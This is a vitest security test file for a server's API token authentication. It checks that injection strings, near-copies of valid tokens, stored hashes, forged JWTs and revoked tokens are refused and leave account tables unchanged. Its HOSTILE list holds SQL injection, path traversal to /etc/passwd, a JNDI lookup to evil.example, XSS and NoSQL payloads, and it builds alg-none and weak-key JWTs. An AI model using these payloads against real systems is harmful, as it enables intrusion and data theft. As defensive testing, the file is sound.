import { createHmac } from 'node:crypto'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { openDatabase, type Database } from '#servers/lib/database/database.ts'
import { hashToken } from '#servers/lib/secrets.ts'
import { mountParts, type Studio } from '#servers/studio.ts'
import { everything } from '../support/account.ts'
import { ledgerFaults } from '../support/shop.ts'
import {
  BASE,
  LOCAL,
  openStudio,
  person,
  type TestPerson,
  type TestStudio
} from '../support/studio.ts'

let studio: TestStudio
/** Another process on the same database: it has its own connections and memory. */
let other: Studio
let second: Database
let operator: TestPerson
let ada: TestPerson
beforeAll(async () => {
  studio = await openStudio({ environment: { RATE_LIMITS: 'off' } })
  const { close: _, ...context } = studio.context
  second = await openDatabase({ url: context.config.databaseUrl, dataDir: context.config.dataDir })
  other = await mountParts({ ...context, database: second }, { site: false })
  operator = await person(studio)
})
beforeEach(async () => {
  ada = await person(studio)
})
afterAll(async () => {
  expect(await ledgerFaults(studio)).toEqual([])
  await other.stop()
  await studio.close()
})

/** A call of each part that needs a token, and one of both formats of the API. */
const CALLS = ['/v1/models', '/library/items', '/api/v1/applications/', '/api/v1/users/me']

/** Texts that break out of a query, a path, a log line or a parser that takes them unchecked. */
const HOSTILE = [
  "' OR '1'='1",
  "' OR 1=1 --",
  "'; DROP TABLE credential; --",
  "') UNION SELECT token_hash FROM credential --",
  '" OR ""="',
  '\\',
  '%',
  '_',
  '%00',
  '../../etc/passwd',
  '${jndi:ldap://evil.example/x}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '[object Object]',
  '__proto__',
  'null',
  'undefined',
  'NaN',
  '0',
  '-1',
  'true',
  '{"$ne":null}',
  '*',
  'pm_',
  'x'.repeat(8000)
]

/** Tables of accounts and money. Others change by themselves, such as the list of processes. */
const TABLES = ['user', 'account', 'grant', 'refresh_token', 'credential', 'application', 'fund']

/** Reads these tables as text. */
async function accounts(): Promise<string> {
  const tables = await everything(studio)
  return JSON.stringify(TABLES.map(name => tables[name]))
}

/** `invalid_token`, or `no_token` for a header that holds none. */
const REFUSED = [401, 400]

const withHeader = (path: string, authorization: string): Promise<Response> =>
  studio.call(path, { headers: { authorization } })
const statuses = (token: string): Promise<number[]> =>
  Promise.all(CALLS.map(async path => (await withHeader(path, `Bearer ${token}`)).status))

describe('a hostile text instead of a key', () => {
  test.each(HOSTILE)('is refused and changes nothing: %j', async text => {
    const before = await accounts()
    const own = ada.credential.token
    for (const token of [text, text.replaceAll(' ', '/**/'), `pm_${text}`, own + text, text + own])
      for (const status of await statuses(token))
        expect(REFUSED, token.slice(0, 80)).toContain(status)
    expect(await accounts()).toBe(before)
  })

  test('also in other places of the header', async () => {
    const own = ada.credential.token
    for (const header of [
      '',
      own,
      `Basic ${own}`,
      `Bearer`,
      `Bearer ${own} ${own}`,
      `Bearer\t${own}x`,
      `Bearer ${own},Bearer ${own}`,
      `Token ${own}`
    ])
      for (const path of CALLS)
        expect(REFUSED, header).toContain((await withHeader(path, header)).status)
    for (const name of ['x-api-key', 'api-key', 'cookie'])
      expect(
        (await studio.call('/api/v1/applications/', { headers: { [name]: own } })).status
      ).toBe(401)
    const inQuery = await studio.call(`/v1/models?key=${own}&access_token=${own}`)
    expect(REFUSED).toContain(inQuery.status)
  })
})

describe('a token that resembles a valid one', () => {
  /** Changes of a text that keep most of it, in case something compares a part only. */
  const nearly = (token: string): string[] => [
    token.slice(0, -1),
    token.slice(0, 20),
    token.slice(1),
    `${token}A`,
    `${token}%20`,
    token.toUpperCase(),
    token.toLowerCase(),
    token.slice(0, 24) + token.slice(24).split('').toReversed().join(''),
    token.slice(0, -12) + 'AAAAAAAAAAAA'
  ]

  test('is refused right after the valid one was used, in each process', async () => {
    for (const valid of [ada.credential.token, ada.token.access_token])
      for (const token of nearly(valid)) {
        await statuses(valid)
        expect(new Set(await statuses(token)), token).toEqual(new Set([401]))
        expect((await elsewhere('/v1/models', token)).status).toBe(401)
      }
  })

  test('is refused if it is what the database keeps', async () => {
    const { db } = studio.context.database
    const key = hashToken(ada.credential.token)
    const refresh = hashToken(ada.token.refresh_token)
    expect(new Set(await statuses(key))).toEqual(new Set([401]))
    expect(new Set(await statuses(`pm_${key}`))).toEqual(new Set([401]))
    const refreshed = await studio.call('/auth/refresh', { json: { refresh_token: refresh } })
    expect(refreshed.status).toBe(401)
    const hashes = await db.selectFrom('account').select('password').execute()
    expect(hashes.length).toBeGreaterThan(0)
    for (const { password } of hashes) {
      const json = { email: ada.email, password: String(password) }
      expect((await studio.call('/api/auth/sign-in/email', { json })).status).toBe(400)
    }
  })

  test('is refused with another algorithm, another key or another type', async () => {
    const [, payload = ''] = ada.token.access_token.split('.')
    const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url')
    const signed = (header: object, key: string): string => {
      const head = `${part(header)}.${payload}`
      return `${head}.${createHmac('sha256', key).update(head).digest('base64url')}`
    }
    const typ = 'at+jwt'
    for (const token of [
      `${part({ alg: 'none', typ })}.${payload}.`,
      `${part({ alg: 'NONE', typ })}.${payload}.`,
      signed({ alg: 'HS256', typ }, ''),
      signed({ alg: 'HS256', typ }, 'secret'),
      signed({ alg: 'HS256', typ, jwk: { kty: 'oct', k: 'c2VjcmV0' } }, 'secret'),
      signed({ alg: 'HS256', typ, kid: '/dev/null' }, ''),
      signed({ alg: 'RS256', typ }, ''),
      signed({ alg: 'HS256', typ: 'JWT' }, 'secret')
    ])
      expect(new Set(await statuses(token)), token).toEqual(new Set([401]))
  })
})

function elsewhere(path: string, token: string): Promise<Response> {
  const headers = { authorization: `Bearer ${token}` }
  return other.fetch(new Request(BASE + path, { headers }), LOCAL)
}

/** Every way to end a key or a sign-in, and the token that must no longer work. */
const ENDS: [string, 'key' | 'access', () => Promise<Response>][] = [
  [
    'a deleted key',
    'key',
    () =>
      studio.call(`/api/v1/credentials/${ada.credential.id}`, {
        method: 'DELETE',
        token: ada.token.access_token
      })
  ],
  [
    'a sign-in that was signed out',
    'access',
    () => studio.call('/auth/logout', { headers: { cookie: ada.cookie } })
  ],
  ...(['key', 'access'] as const).map(
    kind =>
      [`the ${kind} token of a blocked user`, kind, block] as [string, typeof kind, typeof block]
  )
]

test.each(ENDS)('%s is refused by another process at once', async (_, kind, end) => {
  const [token, path] =
    kind === 'key'
      ? [ada.credential.token, '/v1/models']
      : [ada.token.access_token, '/api/v1/users/me']
  expect((await elsewhere(path, token)).status).toBe(200)
  expect((await end()).status).toBeLessThan(400)
  expect([401, 403]).toContain((await elsewhere(path, token)).status)
})

function block(): Promise<Response> {
  return studio.call(`/api/v1/operation/people/${ada.application.user_id}/block`, {
    method: 'PUT',
    json: { reason: 'Sent spam' },
    token: operator.token.access_token
  })
}
